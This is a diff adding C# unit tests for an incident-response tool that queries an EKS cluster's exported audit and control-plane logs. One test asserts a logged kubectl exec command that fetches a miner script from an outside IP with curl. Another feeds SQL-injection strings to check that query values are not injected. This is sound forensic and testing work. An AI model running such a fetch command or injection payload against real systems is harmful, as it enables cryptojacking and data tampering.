@@ -1,0 +1,158 @@
+using System.Text.Json;
+using EksIr.Core.Evidence;
+using EksIr.Logs.Insights;
+
+namespace EksIr.Logs.Tests;
+
+/// <summary>Logs Insights queries over the incident's exported control-plane logs, checked against the same events
+/// read independently; parse, stats, dedup, subnet functions; query text that cannot inject; errors with positions.</summary>
+public sealed class InsightsLocalTests : IDisposable
+{
+    private static readonly string Incident = Repo.Path("sample-data", "incident-1");
+    private readonly InsightsLocal _logs = new(new EvidenceRoot(Incident), "control-plane", "/aws/eks/eksworkshop-eksctl/cluster");
+
+    public void Dispose() => _logs.Dispose();
+
+    private static List<(string Stream, long Time, string Message)> Events() =>
+        Directory.GetFiles(Path.Combine(Incident, "control-plane"), "*.json")
+            .SelectMany(f => JsonDocument.Parse(File.ReadAllText(f)).RootElement.GetProperty("events").EnumerateArray()
+                .Select(e => (e.GetProperty("logStreamName").GetString()!, e.GetProperty("timestamp").GetInt64(), e.GetProperty("message").GetString()!)))
+            .ToList();
+
+    private static IEnumerable<JsonElement> Audit() =>
+        Events().Where(e => e.Stream.StartsWith("kube-apiserver-audit", StringComparison.Ordinal)).Select(e => JsonDocument.Parse(e.Message).RootElement);
+
+    [Fact]
+    public void Every_event_is_loaded_with_its_stream_and_time()
+    {
+        var all = _logs.Query("stats count(*) as n, min(@timestamp) as first, max(@timestamp) as last");
+
+        Assert.Equal(Events().Count, Convert.ToInt32(all.Rows[0][0]));
+        Assert.Equal(DateTimeOffset.FromUnixTimeMilliseconds(Events().Min(e => e.Time)).UtcDateTime, all.Rows[0][1]);
+        Assert.Empty(_logs.Problems);
+    }
+
+    [Fact]
+    public void The_kubectl_exec_commands_come_back_in_order_with_who_ran_them()
+    {
+        var result = _logs.Query("""
+            fields @timestamp, user.username, requestURI
+            | filter @logStream like /^kube-apiserver-audit/ and objectRef.subresource = "exec" and verb == "create"
+            | sort @timestamp asc
+            """);
+
+        var expected = Audit().Where(a => a.GetProperty("objectRef").TryGetProperty("subresource", out var s) && s.GetString() == "exec")
+            .OrderBy(a => a.GetProperty("stageTimestamp").GetString(), StringComparer.Ordinal).ToList();
+        Assert.Equal(["@timestamp", "user.username", "requestURI"], result.Columns.Select(c => c.Name));
+        Assert.Equal(expected.Select(a => a.GetProperty("requestURI").GetString()), result.Rows.Select(r => (string?)r[2]));
+        Assert.All(result.Rows, r => Assert.Equal("dev-intern", r[1]));
+        Assert.Contains("curl%20-s%20http%3A%2F%2F203.0.113.50%2Fminer.sh", (string)result.Rows[0][2]!);
+    }
+
+    [Fact]
+    public void The_reference_queries_run_unchanged()
+    {
+        var creator = _logs.Query("""
+            fields @logstream, @timestamp, @message
+            | sort @timestamp desc
+            | filter @logStream like /authenticator/
+            | filter @message like "username=dev-intern"
+            | limit 50
+            """);
+        var byUser = _logs.Query("""
+            fields @logStream, @timestamp, @message
+            | filter @logStream like /^kube-apiserver-audit/
+            | filter strcontains(user.username,"dev-intern")
+            | sort @timestamp desc
+            | limit 50
+            """);
+        var oom = _logs.Query("""
+            fields @timestamp, @message
+            | filter @logStream like /kube-apiserver-audit/
+            | filter ispresent(requestObject.status.containerStatuses.0.state.terminated.reason)
+            | filter requestObject.status.containerStatuses.0.state.terminated.reason == "OOMKilled"
+            | sort @timestamp desc
+            | limit 20
+            """);
+
+        Assert.Equal(Events().Count(e => e.Stream.StartsWith("authenticator", StringComparison.Ordinal) && e.Message.Contains("username=dev-intern", StringComparison.Ordinal)), creator.Rows.Count);
+        Assert.True(((DateTime)creator.Rows[0][1]!) > (DateTime)creator.Rows[^1][1]!); // newest first
+        Assert.Equal(Audit().Count(a => a.GetProperty("user").GetProperty("username").GetString()!.Contains("dev-intern", StringComparison.Ordinal)), byUser.Rows.Count);
+        Assert.Empty(oom.Rows);
+    }
+
+    [Fact]
+    public void Stats_by_fields_and_time_bins_count_as_the_events_say()
+    {
+        var byVerb = _logs.Query("filter @logStream like /audit/ | stats count(*) as n by verb | sort n desc, verb asc");
+        var perHour = _logs.Query("filter @logStream like /audit/ | stats count(*) by bin(1h)");
+        var denied = _logs.Query("filter responseStatus.code >= 400 | stats count(*) as n, count_distinct(user.username) as users, earliest(requestURI) as first");
+
+        var expected = Audit().GroupBy(a => a.GetProperty("verb").GetString()).ToDictionary(g => g.Key!, g => g.Count());
+        Assert.Equal(expected.OrderByDescending(p => p.Value).ThenBy(p => p.Key, StringComparer.Ordinal).Select(p => (p.Key, (long)p.Value)), byVerb.Rows.Select(r => ((string)r[0]!, Convert.ToInt64(r[1]))));
+        Assert.Equal(["bin(1h)", "count(*)"], perHour.Columns.Select(c => c.Name));
+        Assert.Equal(Audit().Count(), perHour.Rows.Sum(r => Convert.ToInt64(r[1])));
+        var forbidden = Audit().Where(a => a.GetProperty("responseStatus").GetProperty("code").GetInt32() >= 400).ToList();
+        Assert.Equal((forbidden.Count, 2L), (Convert.ToInt32(denied.Rows[0][0]), Convert.ToInt64(denied.Rows[0][1])));
+        Assert.Equal("/api/v1/nodes?limit=500", denied.Rows[0][2]);
+    }
+
+    [Fact]
+    public void Parse_with_a_glob_or_a_regex_gives_pod_to_node_and_node_to_instance()
+    {
+        var binding = _logs.Query("""
+            filter @logStream like /kube-scheduler/ and @message like "Successfully bound"
+            | parse @message 'pod="*" node="*"' as pod, node
+            | filter pod = "default/sysdiag"
+            | display pod, node
+            """);
+        var instance = _logs.Query("""
+            filter @message like "providerID"
+            | parse @message /node="(?<node>[^"]+)" providerID="aws:\/\/\/(?<zone>[^\/]+)\/(?<instance>i-[0-9a-f]+)"/
+            | display node, zone, instance
+            """);
+
+        Assert.Equal(("default/sysdiag", "ip-192-168-23-107.us-west-2.compute.internal"), ((string?)binding.Rows.Single()[0], (string?)binding.Rows.Single()[1]));
+        Assert.Equal(("ip-192-168-23-107.us-west-2.compute.internal", "us-west-2b", "i-0c7d2e91b4a6f3508"),
+            ((string?)instance.Rows.Single()[0], (string?)instance.Rows.Single()[1], (string?)instance.Rows.Single()[2]));
+    }
+
+    [Fact]
+    public void In_not_like_subnets_and_dedup_filter_as_documented()
+    {
+        var writes = _logs.Query("filter verb in [\"create\", \"delete\", \"patch\"] and user.username not like /^system:/ | stats count(*)");
+        var fromOutside = _logs.Query("filter isIpv4InSubnet(sourceIPs.0, \"198.51.100.0/24\") | dedup user.username | display user.username");
+        var notInternal = _logs.Query("filter ispresent(sourceIPs.0) and not isIpv4InSubnet(sourceIPs.0, \"192.168.0.0/16\") and not isIpv4InSubnet(sourceIPs.0, \"10.0.0.0/8\") | stats count(*)");
+
+        Assert.Equal(Audit().Count(a => a.GetProperty("verb").GetString() is "create" or "delete" or "patch" && !a.GetProperty("user").GetProperty("username").GetString()!.StartsWith("system:", StringComparison.Ordinal)),
+            Convert.ToInt32(writes.Rows[0][0]));
+        Assert.Equal(["dev-intern"], fromOutside.Rows.Select(r => (string?)r[0]));
+        Assert.Equal(Audit().Count(a => a.GetProperty("sourceIPs")[0].GetString()!.StartsWith("198.51.100.", StringComparison.Ordinal)), Convert.ToInt32(notInternal.Rows[0][0]));
+    }
+
+    [Theory]
+    [InlineData("filter objectRef.name = \"sysdiag\\\" or verb = \\\"get\"")]
+    [InlineData("filter objectRef.name = \"a'); DROP TABLE logs; --\"")]
+    [InlineData("filter objectRef.name = 'x\\' OR \\'1\\'=\\'1'")]
+    public void Quotes_in_values_stay_values(string query)
+    {
+        var result = _logs.Query(query);
+        var after = _logs.Query("stats count(*)");
+
+        Assert.Empty(result.Rows);
+        Assert.Equal(Events().Count, Convert.ToInt32(after.Rows[0][0]));
+    }
+
+    [Theory]
+    [InlineData("filter verb = ", "line 1, column 15: expected a field, a value or a function, found 'the end of the query'")]
+    [InlineData("fields @timestamp\n| stats count(*) bi verb", "line 2, column 18: expected '|' before the next command, found 'bi'")]
+    [InlineData("fields @timestamp\n| filter nosuch(verb)", "line 2, column 3: unknown function 'nosuch'")]
+    [InlineData("stats count(*) by verb | filter user.username = \"x\"", "line 1, column 26: 'user.username' is not a result of the stats command before it")]
+    [InlineData("parse @message \"a * b *\" as one", "line 1, column 16: the glob has 2 '*' but 1 names follow 'as'")]
+    public void A_query_that_does_not_read_names_the_line_and_column(string query, string message)
+    {
+        var e = Assert.Throws<InsightsSyntaxException>(() => _logs.Query(query));
+
+        Assert.Equal(message, e.Message);
+    }
+}
